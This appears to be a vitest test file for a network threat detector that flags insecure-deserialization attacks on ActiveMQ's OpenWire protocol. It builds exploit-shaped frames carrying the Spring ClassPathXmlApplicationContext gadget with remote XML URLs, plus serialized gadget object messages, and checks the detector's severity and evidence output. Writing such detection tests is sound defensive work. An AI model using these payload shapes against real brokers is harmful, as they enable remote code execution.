/**
 * insecure-deserialization on ActiveMQ's OpenWire (CVE-2023-46604): frames read by the real parser after Debian
 * ActiveMQ 5.17.2's captured exchange (openwire-frames.ts) and handed to the runner with every registered detector and
 * the shipped policy, as the tap does.
 */
import { describe, expect, it } from 'vitest';
import type { Direction, ProtocolEvent } from '#sidecar/events.ts';
import { openwire } from '#sidecar/protocols/openwire.ts';
import { createThreatRunner } from '#sidecar/threats/runner.ts';
import { exceptionResponse, messageAck, openwireExchange } from '#test/fixtures/protocols/openwire-frames.ts';
import {
  compressedObjectMessage,
  consumerExchange,
} from '#test/fixtures/protocols/openwire-object-frames.ts';
import { concat, hex } from '#test/fixtures/protocols/protocol-harness.ts';
import { dateStream, gadgetStream } from '#test/fixtures/protocols/t3-messages.ts';
import { threatsBy } from '#test/helpers/split-findings.ts';
import { flow } from './threat-factories.ts';

const brokerFlow = flow({ protocol: 'openwire' });

/** The insecure-deserialization findings of an exchange, through the parser and every detector. */
const findings = (segments: readonly (readonly [Direction, Uint8Array])[]): [string, string][] => {
  const parser = openwire.createParser();
  const runner = createThreatRunner();
  for (const [direction, bytes] of segments)
    for (const event of parser.parse(bytes, direction, 1_000) as ProtocolEvent[])
      runner.onEvent(brokerFlow, event);
  runner.onFlowEnd(brokerFlow);
  return threatsBy(runner.drain(1_000_000), 'insecure-deserialization').map((f) => [f.severity, f.evidence]);
};

const spring = 'org.springframework.context.support.ClassPathXmlApplicationContext';

describe('insecure-deserialization on OpenWire', () => {
  it("reports the exploit's Spring XML context critical, naming the class and the URL", () => {
    expect(findings([['to-server', exceptionResponse(spring, 'http://127.0.0.1:9/poc.xml')]])).toEqual([
      [
        'critical',
        `ActiveMQ OpenWire exception-response carrying a Throwable of class ${spring}, which a broker instantiates with its message (CVE-2023-46604) with gadget ${spring} (a Spring XML application context: loads and runs the bean definitions at the URL) — openwire exception-response: message "http://127.0.0.1:9/poc.xml"`,
      ],
    ]);
    const fileSystem = 'org.apache.xbean.spring.context.FileSystemXmlApplicationContext';
    const after = [
      ...openwireExchange.slice(0, 2),
      ['to-server', exceptionResponse(fileSystem, 'http://x/a.xml')],
    ];
    expect(findings(after as [Direction, Uint8Array][]).map(([severity]) => severity)).toEqual(['critical']);
    // A MessageAck's poison cause is instantiated the same way.
    const [[severity, evidence] = []] = findings([['to-server', messageAck(spring, 'http://x/b.xml')]]);
    expect([severity, evidence?.split(' — ')[1]]).toEqual([
      'critical',
      'openwire ack: message "http://x/b.xml"',
    ]);
  });

  it("reports another class high, and leaves the JDK's and ActiveMQ's exceptions and the real exchange alone", () => {
    const [[severity, evidence] = []] = findings([
      ['to-server', exceptionResponse('java.io.FileOutputStream', '/x')],
    ]);
    expect([severity, evidence?.split(' — ')[0]]).toEqual([
      'high',
      'ActiveMQ OpenWire exception-response carrying a Throwable of class java.io.FileOutputStream, which a broker instantiates with its message (CVE-2023-46604), no known gadget',
    ]);
    for (const own of [
      'java.lang.IllegalStateException',
      'javax.jms.JMSException',
      'org.apache.activemq.ConfigurationException',
    ])
      expect(findings([['to-server', exceptionResponse(own, 'closed')]]), own).toEqual([]);
    expect(findings(openwireExchange)).toEqual([]);
    // From the broker: not the client's doing.
    expect(findings([['to-client', exceptionResponse(spring, 'http://x/a.xml')]])).toEqual([]);
  });

  it("judges an object message's body for a known gadget (CVE-2015-5254), not an ordinary object's", () => {
    // ActiveMQObjectMessage (26), loosely encoded: ids and headers stand in before the body (openwire-real.test.ts
    // sends a real one through Debian's ActiveMQ).
    const objectMessage = (body: Uint8Array) => {
      const frame = concat(hex('1a 00000007 01 00 0000'), body);
      return concat(hex((frame.length >>> 0).toString(16).padStart(8, '0')), frame);
    };
    const [gadget] = findings([['to-server', objectMessage(gadgetStream)]]);
    expect(gadget?.[0]).toBe('critical');
    expect(gadget?.[1]).toContain(
      'ActiveMQ OpenWire object message, its body a Java serialized object every consumer',
    );
    expect(findings([['to-server', objectMessage(dateStream)]])).toEqual([]);
    // From the broker, only a MessageDispatch carrying an object message is judged (below): not a bare one.
    expect(findings([['to-client', objectMessage(gadgetStream)]])).toEqual([]);
  });

  it('judges the object messages the broker dispatches to this consumer, plain and compressed', () => {
    // The capture's two dispatches: the plain message (1,336 octets), then the compressed one (774).
    const plain = consumerExchange.filter(([, bytes]) => bytes.length !== 774);
    const compressed = consumerExchange.filter(([, bytes]) => bytes.length !== 1336);
    expect(plain.length + compressed.length).toBe(2 * consumerExchange.length - 2);
    for (const [exchange, octets] of [
      [plain, 1194],
      [compressed, 1168],
    ] as const) {
      const told = findings(exchange);
      expect(told.map(([severity, evidence]) => [severity, evidence.split(' — ')[1]])).toEqual([
        ['critical', `openwire dispatch: ${octets} octets`],
      ]);
      // Without the plain dispatch, the compressed one's destination (cached by the first) is not known.
      expect(told[0]?.[1]).toMatch(
        /^ActiveMQ OpenWire object message dispatched to this consumer( from queue:\/\/orders)?, its body a Java serialized object its getObject\(\) deserializes \(CVE-2015-5254\) with gadget BadAttributeValueExpException toString trigger/,
      );
    }
    expect(findings(consumerExchange)[0]?.[1]).toContain('dispatched to this consumer from queue://orders');
    // A producer's compressed object message is judged as a plain one.
    const producer = [...openwireExchange.slice(0, 2), ['to-server', compressedObjectMessage] as const];
    expect(findings(producer).map(([severity, evidence]) => [severity, evidence.split(' — ')[1]])).toEqual([
      ['critical', 'openwire message: 1168 octets'],
    ]);
  });
});
